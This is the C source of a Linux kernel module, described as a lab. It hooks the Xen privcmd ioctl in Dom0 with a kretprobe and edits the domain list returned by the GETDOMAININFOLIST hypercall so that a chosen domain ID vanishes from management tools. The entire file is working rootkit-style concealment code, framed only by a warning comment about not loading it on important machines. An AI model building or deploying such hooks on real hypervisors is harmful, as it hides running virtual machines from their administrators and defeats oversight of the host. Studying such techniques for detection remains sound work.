// SPDX-License-Identifier: GPL-2.0-only
/*
 * ks_domain.c - leaves one domain out of the lists that Xen gives to Dom0's programs.
 *
 *	echo DOMID >/sys/module/ks_domain/parameters/domid      (0: none)
 *
 * Never load it on a machine that matters.  The structures are Xen's (public/sysctl.h, domctl.h, interface version 0x15).
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/uaccess.h>
#include <xen/privcmd.h>
#include <xen/interface/xen.h>

#define GETDOMAININFOLIST 6
#define DOMAININFO_BYTES 112

struct sysctl {
	uint32_t cmd, interface_version;
	uint16_t first_domain;
	uint32_t max_domains;
	uint64_t buffer;
	uint32_t num_domains;
};

static int domid;
module_param(domid, int, 0600);

struct call {
	struct sysctl __user *sysctl;
};

static int on_entry(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	struct privcmd_hypercall hypercall;
	struct call *call = (struct call *)instance->data;

	call->sysctl = NULL;
	if (domid && regs->si == IOCTL_PRIVCMD_HYPERCALL &&
	    !copy_from_user_nofault(&hypercall, (const void __user *)regs->dx, sizeof(hypercall)) &&
	    hypercall.op == __HYPERVISOR_sysctl)
		call->sysctl = (struct sysctl __user *)(unsigned long)hypercall.arg[0];
	return 0;
}

/* Moves those behind it forward, and says that there is one less. */
static void take_out(struct sysctl __user *at, const struct sysctl *sysctl)
{
	char moved[DOMAININFO_BYTES];
	char __user *list = (char __user *)(unsigned long)sysctl->buffer;
	uint32_t left = sysctl->num_domains - 1;
	bool found = false;
	uint16_t id;

	for (uint32_t i = 0; i < sysctl->num_domains; i++) {
		char __user *entry = list + (size_t)i * DOMAININFO_BYTES;

		if (found) {
			if (copy_from_user_nofault(moved, entry, sizeof(moved)) ||
			    copy_to_user_nofault(entry - DOMAININFO_BYTES, moved, sizeof(moved)))
				return;
		} else if (!copy_from_user_nofault(&id, entry, sizeof(id))) {
			found = id == domid;
		}
	}
	if (found)
		copy_to_user_nofault(&at->num_domains, &left, sizeof(left));
}

static int on_return(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	struct call *call = (struct call *)instance->data;
	struct sysctl sysctl;

	if (call->sysctl && !copy_from_user_nofault(&sysctl, call->sysctl, sizeof(sysctl)) && sysctl.cmd == GETDOMAININFOLIST &&
	    !regs_return_value(regs))
		take_out(call->sysctl, &sysctl);
	return 0;
}

static struct kretprobe probe = {
	.kp.symbol_name = "privcmd_ioctl",
	.entry_handler = on_entry,
	.handler = on_return,
	.data_size = sizeof(struct call),
	.maxactive = 16,
};

static int __init ks_domain_start(void)
{
	return register_kretprobe(&probe);
}

static void __exit ks_domain_stop(void)
{
	unregister_kretprobe(&probe);
}

module_init(ks_domain_start);
module_exit(ks_domain_stop);

MODULE_DESCRIPTION("lab of ksense: a domain that no list shows");
MODULE_LICENSE("GPL");
